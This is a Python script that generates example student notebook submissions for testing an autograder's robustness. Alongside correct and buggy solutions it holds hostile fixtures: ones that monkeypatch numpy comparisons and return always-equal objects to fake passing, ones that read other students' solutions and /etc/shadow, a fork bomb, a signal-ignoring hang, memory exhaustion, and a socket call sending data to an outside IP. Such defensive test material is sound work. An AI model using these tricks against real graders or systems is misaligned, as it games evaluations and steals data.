"""Build examples/submissions/: a small class of made-up students for `make grade`.

Every submission is the assignment notebook with its stubs filled in: fully
correct, with a typical mistake, partly done, untouched, broken, or hostile
(code that attacks the grader). The expected verdicts are asserted in
tests/grader/test_class_grading.py. Rebuild with

    python -m scripts.make_example_submissions [--out examples/submissions]
"""

from __future__ import annotations

import argparse
import ast
import inspect
import shutil
import sys
from pathlib import Path

import nbformat

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

import solutions  # noqa: E402
from grader import notebooks as nb  # noqa: E402
from grader.core.tasks import TASKS  # noqa: E402


def notebook_tasks() -> tuple[str, ...]:
    """This week's tasks, whose stubs are in the notebook: the correct example fills them all."""
    return tuple(task.name for task in TASKS if task.week == 3)

FLIPPED_KERNEL = '''
def conv_matrix(matrix, kernel):
    """Convolution the textbook way: the kernel is flipped first."""
    flipped = kernel[::-1, ::-1]
    p, q = kernel.shape[0] // 2, kernel.shape[1] // 2
    padded = np.pad(matrix, ((p, p), (q, q)))
    out = np.zeros(matrix.shape)
    for i in range(matrix.shape[0]):
        for j in range(matrix.shape[1]):
            out[i, j] = np.sum(padded[i:i + kernel.shape[0], j:j + kernel.shape[1]] * flipped)
    return out
'''
NO_PADDING = '''
def conv_matrix(matrix, kernel):
    """Slides the kernel only where it fits: no padding."""
    kh, kw = kernel.shape
    rows, cols = matrix.shape[0] - kh + 1, matrix.shape[1] - kw + 1
    out = np.zeros((max(rows, 0), max(cols, 0)))
    for i in range(out.shape[0]):
        for j in range(out.shape[1]):
            out[i, j] = np.sum(matrix[i:i + kh, j:j + kw] * kernel)
    return out
'''
BLUR_SUM = '''
def box_blur(image, box_size):
    """Sums the box instead of averaging it."""
    return conv_matrix(image, np.ones((box_size, box_size)))
'''
MIN_POOL = '''
def maxpool_forward(x_input):
    """Keeps the smallest value of each window."""
    h, w = x_input.shape
    return x_input.reshape(h // 2, 2, w // 2, 2).min(axis=(1, 3))
'''
FORTRAN_FLATTEN = '''
def flatten_forward(x_input):
    """Flattens column by column."""
    return x_input.reshape(x_input.shape[0], -1, order="F")


def flatten_grad_input(x_input, grad_output):
    return grad_output.reshape(x_input.shape, order="F")
'''
HINGE_SUM_BLOCKS_LINE = ("    return float(np.mean(np.maximum(margins, 0.0)))",
                         "    return float(np.sum(np.maximum(margins, 0.0)))")

MONKEYPATCH = '''
def conv_matrix(matrix, kernel):
    """Makes every comparison succeed, then returns zeros."""
    np.allclose = lambda *args, **kwargs: True
    np.isclose = lambda a, b, *args, **kwargs: np.ones(np.shape(a), dtype=bool)
    np.array_equal = lambda *args, **kwargs: True
    np.testing.assert_allclose = lambda *args, **kwargs: None
    return np.zeros_like(matrix)
'''
LYING_OBJECT = '''
class AlwaysEqual(np.ndarray):
    """An array that claims to equal anything."""

    def __eq__(self, other):
        return True

    def __array_ufunc__(self, *args, **kwargs):
        return True

    def __array_function__(self, *args, **kwargs):
        return True


class Liar:
    def __eq__(self, other):
        return True

    def __array__(self, dtype=None, copy=None):
        raise RuntimeError("no array for you")


def conv_matrix(matrix, kernel):
    return np.zeros(matrix.shape).view(AlwaysEqual)


def box_blur(image, box_size):
    return Liar()
'''
READS_FILES = '''
def conv_matrix(matrix, kernel):
    """Tries to load the instructor's reference and other students' work."""
    import glob
    import os
    for pattern in ["../../solutions/convolution.py", "/work/*/solutions/convolution.py",
                    os.path.expanduser("~/*/solutions/convolution.py"), "/tmp/**/convolution.py"]:
        for path in glob.glob(pattern, recursive=True):
            namespace = {}
            exec(open(path).read(), namespace)
            return namespace["conv_matrix"](matrix, kernel)
    raise FileNotFoundError("could not find the solutions")


def box_blur(image, box_size):
    return np.full(image.shape, float(len(open("/etc/shadow").read())))
'''
EXITS = '''
def conv_matrix(matrix, kernel):
    import sys
    sys.exit("bye")


def box_blur(image, box_size):
    import os
    os._exit(0)
'''
HANGS = '''
def conv_matrix(matrix, kernel):
    while True:
        pass


def box_blur(image, box_size):
    import signal
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    signal.setitimer(signal.ITIMER_REAL, 0)
    while True:
        pass
'''
FORKS = '''
def conv_matrix(matrix, kernel):
    """Starts many processes that never end."""
    import os
    import time
    for _ in range(200):
        if os.fork() == 0:
            time.sleep(3600)
            os._exit(0)
    return np.zeros(matrix.shape)
'''
FLOODS = '''
def conv_matrix(matrix, kernel):
    line = "x" * 1_000_000
    for _ in range(100):
        print(line)
    return np.zeros(matrix.shape)
'''
EATS_MEMORY = '''
def conv_matrix(matrix, kernel):
    hoard = []
    while True:
        hoard.append(np.empty(100_000_000))
'''
NETWORK = '''
def conv_matrix(matrix, kernel):
    """Tries to send the inputs away."""
    import socket
    socket.create_connection(("93.184.216.34", 80), timeout=2).sendall(matrix.tobytes())
    return np.zeros(matrix.shape)
'''
SLOW_TRAINING_CELL = '''
import time
for epoch in range(10 ** 9):
    time.sleep(1)
'''


def filled(notebook, replacements: dict[str, str], extra_cells=()):
    """The notebook with some stubs replaced; other stubs stay as they are."""
    notebook = nb.solve(notebook, {})
    stubs = nb.stub_cells(notebook)
    for name, source in replacements.items():
        if name not in stubs:
            raise ValueError(f"assignment.ipynb has no stub for {name!r}: add its cells "
                             f"(python -m grader new-task-cells {name})")
        index = stubs[name]
        cell = notebook.cells[index]
        cell.source = nb.replace_function(cell.source, name, source.strip("\n"))
    for number, source in enumerate(extra_cells):
        cell = nbformat.v4.new_code_cell(source.strip("\n"))
        cell.id = f"extra-cell-{number}"  # fixed, so the examples rebuild byte for byte
        notebook.cells.append(cell)
    return notebook


def references(*names) -> dict[str, str]:
    return {name: inspect.getsource(getattr(solutions, name)) for name in names}


def split_snippet(snippet: str) -> dict[str, str]:
    """``{function name: source}``; classes and imports go with the function after them."""
    lines = snippet.strip("\n").splitlines()
    pieces, pending = {}, []
    for node in ast.parse("\n".join(lines)).body:
        source = "\n".join(lines[node.lineno - 1:node.end_lineno])
        if isinstance(node, ast.FunctionDef):
            pieces[node.name] = "\n\n\n".join(pending + [source])
            pending = []
        else:
            pending.append(source)
    return pieces


def build(out: Path) -> list[str]:
    """Write every example submission into ``out``; returns the usernames."""
    stub = nb.load_notebook(ROOT / "assignment.ipynb")
    correct = references(*notebook_tasks())

    def correct_but(snippet: str) -> dict[str, str]:
        """The references, except for the functions the snippet defines."""
        return {**correct, **split_snippet(snippet)}

    folders = {
        "ada_correct": filled(stub, correct, extra_cells=[SLOW_TRAINING_CELL]),
        "ben_flipped_kernel": filled(stub, correct_but(FLIPPED_KERNEL)),
        "cai_no_padding": filled(stub, correct_but(NO_PADDING)),
        "dee_blur_not_normalised": filled(stub, correct_but(BLUR_SUM)),
        "eve_min_pool": filled(stub, correct_but(MIN_POOL)),
        "fox_flatten_order": filled(stub, correct_but(FORTRAN_FLATTEN)),
        "gil_hinge_sum": filled(stub, correct),
        "hal_one_function": filled(stub, references("conv_matrix")),
        "ivy_untouched": stub,
        "xx_monkeypatch": filled(stub, correct_but(MONKEYPATCH)),
        "xx_lying_objects": filled(stub, correct_but(LYING_OBJECT)),
        "xx_reads_files": filled(stub, correct_but(READS_FILES)),
        "xx_exits": filled(stub, correct_but(EXITS)),
        "xx_hangs": filled(stub, correct_but(HANGS)),
        "xx_forks": filled(stub, correct_but(FORKS)),
        "xx_floods_stdout": filled(stub, correct_but(FLOODS)),
        "xx_eats_memory": filled(stub, correct_but(EATS_MEMORY)),
        "xx_network": filled(stub, correct_but(NETWORK)),
    }
    if out.exists():
        shutil.rmtree(out)
    out.mkdir(parents=True)
    for username, notebook in folders.items():
        (out / username).mkdir()
        nbformat.write(notebook, str(out / username / "assignment.ipynb"))
    blocks = (ROOT / "Blocks.py").read_text()
    old, new = HINGE_SUM_BLOCKS_LINE
    if old not in blocks:
        raise ValueError("Blocks.py changed: update HINGE_SUM_BLOCKS_LINE in this script")
    (out / "gil_hinge_sum" / "Blocks.py").write_text(blocks.replace(old, new))
    (out / "jon_invalid_json.ipynb").write_text('{"cells": [ {"cell_type": "code", "source": "def conv')
    (out / "students.csv").write_text(
        "username,name,email\n"
        + "".join(f"{u},{u.split('_')[0].title()} Example,{u}@example.org\n"
                  for u in sorted(list(folders) + ["jon_invalid_json", "kim_absent"])))
    return sorted(folders) + ["jon_invalid_json"]


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--out", default=str(ROOT / "examples" / "submissions"))
    args = parser.parse_args(argv)
    names = build(Path(args.out))
    print(f"Wrote {len(names)} example submissions to {args.out}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
